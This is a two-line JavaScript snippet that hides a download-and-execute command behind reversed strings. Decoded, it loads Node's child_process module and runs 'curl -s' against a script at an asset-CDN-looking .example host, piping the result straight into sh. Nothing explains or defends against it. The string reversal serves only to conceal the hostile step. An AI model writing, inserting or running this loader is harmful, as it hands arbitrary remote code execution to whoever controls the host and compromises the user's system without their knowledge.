const r = (s) => s.raw[0].split('').reverse().join('');
require(r`ssecorp_dlihc`).exec(r`hs | x/elpmaxe.buh-tessa.ndc//:sptth s- lruc`);
